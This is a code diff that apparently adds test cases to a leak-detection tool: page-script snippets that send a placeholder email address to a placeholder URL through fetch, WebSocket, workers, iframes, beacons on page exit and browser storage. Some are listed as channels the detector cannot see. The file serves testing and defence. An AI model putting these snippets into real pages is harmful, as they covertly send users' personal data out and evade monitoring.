@@ -18,6 +18,8 @@ export const WAYS: Readonly<Record<string, string>> = {
   'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL }))`,
   'fetch, Request object with a Blob': `fetch(new Request(URL, { method: 'POST', body: new Blob([EMAIL]) }))`,
   'fetch, JSON': `fetch(URL, { method: 'POST', body: JSON.stringify({ em: EMAIL }), headers: { 'content-type': 'application/json' } })`,
+  'fetch, Request object with a file': `fetch(new Request(URL, { method: 'POST', body: form({ file: new File([EMAIL], 'a.txt') }) }))`,
+  'fetch, DELETE': `fetch(URL, { method: 'DELETE', body: JSON.stringify({ em: EMAIL }) })`,
   'fetch, a body of 1 MiB': `fetch(URL, { method: 'POST', body: JSON.stringify({ em: EMAIL, rest: 'x'.repeat(2 ** 20) }) })`,
   'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
   'fetch, header': `fetch(URL, { headers: { 'x-user': EMAIL } })`,
@@ -45,6 +47,8 @@ export const WAYS: Readonly<Record<string, string>> = {
   'WebSocket, text': `socket(EMAIL)`,
   'WebSocket, bytes': `socket(new TextEncoder().encode(EMAIL))`,
   'WebSocket, Blob': `socket(new Blob([EMAIL]))`,
+  'WebSocket, what becomes text': `socket({ toString: () => EMAIL })`,
+  'WebSocket, why it is closed': `socketOpen(one => one.close(3001, EMAIL))`,
   'worker, fetch': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"])))`,
   'about:blank frame, at once': `add('iframe', {}).contentWindow.fetch(URL, { method: 'POST', body: EMAIL })`,
   'about:blank frame, Blob': `add('iframe', {}).contentWindow.navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })]))`,
@@ -84,19 +88,36 @@ export const UNSEEN: Readonly<Partial<Record<CannotBeSeen, string>>> = {
   'worker-blob': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', body: new Blob(['" + EMAIL + "']) })"])))`,
   'worker-stream': `new Worker(window.URL.createObjectURL(new Blob(["fetch('" + URL + "', { method: 'POST', duplex: 'half', body: new Blob(['" + EMAIL + "']).stream() })"])))`,
   'report-to': `add('iframe', { src: '/report-to?em=' + EMAIL })`,
+  'worker-file': `new Worker(window.URL.createObjectURL(new Blob(["const form = new FormData(); form.append('file', new File(['" + EMAIL + "'], 'a.txt')); fetch('" + URL + "', { method: 'POST', body: form })"])))`,
+  'odd-blob': `fetch(URL, { get method() { return 'POST' }, get body() { return new Blob([EMAIL]) } })`,
+  'data-frame': `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<script>const one = new WebSocket("' + URL.replace('https', 'wss') + '"); one.onopen = () => one.send("' + EMAIL + '")</' + 'script>') })`,
   'empty-frame-blob': `add('iframe', { src: '/style.css' }).contentWindow.navigator.sendBeacon(URL, new Blob([EMAIL]))`,
 }
 
-/** Page script that sends `EMAIL` to `URL` as the page is left; `leave` is called then. */
+/** … that only Chromium has. */
+export const UNSEEN_OF_CHROMIUM: Readonly<Partial<Record<CannotBeSeen, string>>> = {
+  'socket-stream': `new WebSocketStream(URL.replace('https', 'wss')).opened.then(({ writable }) => writable.getWriter().write(EMAIL))`,
+  'browser-asks': `void new PaymentRequest([{ supportedMethods: URL + '?em=' + EMAIL }], { total: { label: 'all', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
+}
+
+/** Page script that sends `EMAIL` to `URL` as the page is left. */
 export const LEAVING: Readonly<Record<string, string>> = {
   'beacon, text': `navigator.sendBeacon(URL, EMAIL)`,
   'beacon, Blob': `navigator.sendBeacon(URL, new Blob([JSON.stringify({ em: EMAIL })], { type: 'text/plain' }))`,
   'beacon, Blob of bytes': `navigator.sendBeacon(URL, new Blob([new TextEncoder().encode(EMAIL)]))`,
+  'beacon, Blob of parts': `navigator.sendBeacon(URL, new Blob(['{"em":', new TextEncoder().encode('"' + EMAIL), new Blob(['"}'])]))`,
+  'beacon, File': `navigator.sendBeacon(URL, new File([EMAIL], 'a.txt'))`,
   'beacon, FormData': `navigator.sendBeacon(URL, form({ em: EMAIL }))`,
+  'fetch, Request object': `fetch(new Request(URL, { method: 'POST', body: EMAIL, keepalive: true }))`,
   'fetch, keepalive': `fetch(URL, { method: 'POST', body: EMAIL, keepalive: true })`,
   'fetch, keepalive, Blob': `fetch(URL, { method: 'POST', body: new Blob([EMAIL]), keepalive: true })`,
   'image address': `new Image().src = URL + '?em=' + EMAIL`,
 }
+
+/** … and what is not seen then, and holds up nothing else. */
+export const LEAVING_UNSEEN = {
+  'late-blob': `navigator.sendBeacon(URL, form({ em: new Blob([EMAIL]) }))`,
+} as const satisfies Partial<Record<CannotBeSeen, string>>
 
 /** Page script that puts `EMAIL` where it stays in the browser, by where it is then found. */
 export const KEPT: Readonly<Record<string, readonly [where: string, script: string]>> = {
@@ -121,6 +142,7 @@ export const KEPT: Readonly<Record<string, readonly [where: string, script: stri
   ],
   'window.name': ['storage.window.name', `window.name = EMAIL`],
   'the history’s state': ['storage.history.state.em', `history.replaceState({ em: EMAIL }, '')`],
+  'the address’s fragment': ['url.fragment.em', `location.hash = 'em=' + EMAIL`],
   'the address': ['url.query.em', `history.pushState(null, '', '?em=' + EMAIL)`],
 }
 
@@ -132,7 +154,8 @@ export const tools = (path: string): string => `
   const xhr = (body, later = true) => { const request = new XMLHttpRequest(); request.open('POST', URL, later); request.send(body) }
   const post = "fetch('" + URL + "', { method: 'POST', body: '" + EMAIL + "' })"
   const inline = '<script>fetch("' + URL + '", { method: "POST", mode: "no-cors", body: "' + EMAIL + '" })</' + 'script>'
-  const socket = data => { const one = new WebSocket(URL.replace('https', 'wss')); one.onopen = () => one.send(data) }
+  const socketOpen = use => { const one = new WebSocket(URL.replace('https', 'wss')); one.onopen = () => use(one) }
+  const socket = data => socketOpen(one => one.send(data))
   const fileOf = name => {
     const file = Object.assign(document.createElement('input'), { type: 'file', name: 'file' })
     const chosen = new DataTransfer()
